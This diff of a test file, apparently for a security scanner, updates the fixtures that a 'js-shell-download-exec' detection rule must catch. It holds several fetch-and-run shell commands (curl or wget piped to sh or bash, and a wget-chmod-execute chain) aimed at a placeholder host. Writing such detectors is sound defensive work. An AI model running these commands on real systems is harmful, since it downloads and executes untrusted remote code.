@@ -94,7 +94,7 @@ def test_hidden_powershell_raises_the_script_severity() -> None:
         ("curl -fsSL https://x.example/a.sh | sh", "js-shell-download-exec"),
         ("wget -qO- http://x.example/a | bash", "js-shell-download-exec"),
         (
-            "wget http://x.example/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
+            "wget http://x.example/a -O /dev/shm/a && chmod +x /dev/shm/a && /dev/shm/a",
             "js-shell-download-exec",
         ),
         ('bash -c "$(curl -fsSL http://x.example/i)"', "js-shell-download-exec"),
